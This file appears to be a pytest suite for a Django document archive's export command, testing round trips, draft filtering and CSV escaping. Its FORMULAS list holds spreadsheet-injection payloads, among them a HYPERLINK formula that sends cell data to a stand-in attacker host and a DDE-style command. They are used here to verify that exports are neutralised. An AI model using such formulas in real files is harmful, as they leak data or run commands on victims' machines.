"""`declassified export`: the import format, public documents only, and round trips."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from declassified.archive.models import Document, Repository, Text
from declassified.ingest.tabular_columns import COLUMNS
from tests.factories import (
    make_collection,
    make_document,
    make_person,
    make_place,
    make_subject,
)

pytestmark = pytest.mark.django_db

DOCS = Path(__file__).resolve().parents[2] / "docs" / "import-format.md"


def export(*args: str) -> str:
    out, err = io.StringIO(), io.StringIO()
    call_command("export", *args, stdout=out, stderr=err)
    return out.getvalue()


def run_import(path: Path) -> str:
    out = io.StringIO()
    call_command("import", str(path), stdout=out)
    return out.getvalue().strip()


def a_richly_tagged_archive() -> list[Document]:
    split = make_collection("Sino-Soviet Split, 1960-1984")
    zhou, moscow = make_person("Zhou Enlai"), make_place("Moscow")
    protests = make_subject("Student demonstrations")
    first = make_document(
        title="Cable, ‘On the Students’", date="1965-03~", collections=[split], people=[zhou],
        places=[moscow], subjects=[protests], authors=[make_person("Chinese Embassy")],
        text="<p>Line one, with a comma.</p>\n<p>Line “two”.</p>",
        classification="Secret", source_citation="PRC FMA 109-03957-05",
        repository=Repository.objects.create(name="PRC Foreign Ministry Archive"),
        source_id="example/1", source_url="https://example.org/1", date_detail="evening",
        number="7", participants="Zhou Enlai\nPan Zili, Ambassador", call_number="109-03957",
    )
    first.languages.create(code="zh", name="Chinese")
    first.contributors.add(make_person("Example Foundation"))
    second = make_document(title='Minutes, "quoted" | piped', date="", summary="Line\nbreak")
    return [first, second]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_edit_import_round_trips_exactly(tmp_path, fmt):
    first, second = a_richly_tagged_archive()
    exported = export("--format", fmt)
    edited = exported.replace("Cable, ‘On the Students’", "Cable, ‘On the Students’ (edited)")
    path = tmp_path / f"edited.{fmt}"
    path.write_text(edited, encoding="utf-8", newline="")

    assert run_import(path) == "0 created, 1 updated, 1 unchanged"

    assert export("--format", fmt) == edited
    assert Document.objects.get(pk=first.pk).title.endswith("(edited)")
    assert Document.objects.count() == 2


def test_an_export_imported_into_an_empty_archive_recreates_it(tmp_path):
    a_richly_tagged_archive()
    exported = export("--format", "jsonl", "--include-unpublished")
    Document.objects.all().delete()
    path = tmp_path / "all.jsonl"
    path.write_text(exported, encoding="utf-8")

    assert run_import(path) == "2 created, 0 updated, 0 unchanged"
    assert export("--format", "jsonl", "--include-unpublished") == exported


def test_export_hides_drafts_and_withdrawn_unless_asked(tmp_path):
    make_document(title="Public cable")
    make_document(title="Draft cable", status=Document.DRAFT)
    make_document(title="Withdrawn cable", status=Document.WITHDRAWN)

    public = list(csv.DictReader(io.StringIO(export())))
    everything = list(csv.DictReader(io.StringIO(export("--include-unpublished"))))

    assert [row["title"] for row in public] == ["Public cable"]
    assert "status" not in public[0]
    assert {(row["title"], row["status"]) for row in everything} == {
        ("Public cable", "published"), ("Draft cable", "draft"),
        ("Withdrawn cable", "withdrawn"),
    }


def test_export_of_one_collection(tmp_path):
    split = make_collection("Sino-Soviet Split, 1960-1984")
    make_document(title="In the collection", collections=[split])
    make_document(title="Elsewhere")

    rows = [json.loads(line) for line in export("--format", "jsonl", "--collection", str(split.pk))
            .splitlines()]

    assert [row["title"] for row in rows] == ["In the collection"]
    with pytest.raises(CommandError, match="no collection has this ID"):
        export("--collection", str(split.pk + 100))


def test_export_streams_with_a_bounded_number_of_queries(django_assert_max_num_queries):
    split, zhou = make_collection(), make_person()
    for n in range(60):
        make_document(title=f"Cable {n}", collections=[split], people=[zhou], text=f"Text {n}")

    with django_assert_max_num_queries(12):
        output = export("--format", "jsonl")

    assert len(output.splitlines()) == 60


def test_export_to_a_file(tmp_path):
    make_document(title="Saved to a file")
    target = tmp_path / "out.csv"

    call_command("export", "--output", str(target), stdout=io.StringIO(), stderr=io.StringIO())

    assert "Saved to a file" in target.read_text(encoding="utf-8")
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left behind


def test_documents_with_several_texts_keep_them_on_reimport(tmp_path):
    document = make_document(title="Two texts", text="<p>Translation</p>")
    Text.objects.create(document=document, kind="transcript", language_id="en", body="<p>T</p>")
    err = io.StringIO()
    call_command("export", "--output", str(tmp_path / "out.csv"), stdout=io.StringIO(), stderr=err)

    assert "1 documents have several texts" in err.getvalue()
    run_import(tmp_path / "out.csv")
    assert document.texts.count() == 2


def test_every_column_is_documented():
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", DOCS.read_text(encoding="utf-8"), re.M))

    assert documented == {column.name for column in COLUMNS}


@pytest.mark.parametrize("language", ["csv", "json"])
def test_the_documented_examples_import(tmp_path, language):
    text = DOCS.read_text(encoding="utf-8")
    example = re.search(rf"```{language}\n(.*?)```", text, re.S).group(1)
    path = tmp_path / ("example.csv" if language == "csv" else "example.jsonl")
    path.write_text(example, encoding="utf-8")

    assert run_import(path) == "2 created, 0 updated, 0 unchanged"
    assert Document.objects.get(pk=21).texts.get().body == (
        "<p>First paragraph.</p>\n<p>Second paragraph.</p>"
    )


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3+cmd' /C calc'!A0",
    "+1+1", "-2+3", "\t=1+1", "'=already quoted", "''@twice",
]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
    for formula in FORMULAS:
        make_document(title=f"x{formula}"[1:], summary=formula, classification=formula[:200])

    rows = list(csv.DictReader(io.StringIO(export())))

    for row in rows:
        for name in ("title", "summary", "classification"):
            assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), row[name]
    assert sorted(row["summary"] for row in rows) == sorted(
        "'" + formula for formula in FORMULAS
    )


def test_a_protected_cell_round_trips_through_import(tmp_path):
    # The import strips surrounding whitespace from every cell, so "\t=1+1" is left out.
    formulas = [formula for formula in FORMULAS if formula == formula.strip()]
    documents = [make_document(title=f"Cable {n}", summary=formula, people=[make_person(formula)])
                 for n, formula in enumerate(formulas)]
    exported = export()
    path = tmp_path / "docs.csv"
    path.write_text(exported, encoding="utf-8", newline="")

    assert run_import(path) == f"0 created, 0 updated, {len(formulas)} unchanged"
    for document, formula in zip(documents, formulas, strict=True):
        document.refresh_from_db()
        assert document.summary == formula
        assert [p.name for p in document.people.all()] == [formula]
    assert export() == exported


def test_a_plain_leading_quote_is_kept(tmp_path):
    make_document(title="'Tis the season", summary="'quoted'")

    row = next(csv.DictReader(io.StringIO(export())))

    assert (row["title"], row["summary"]) == ("'Tis the season", "'quoted'")
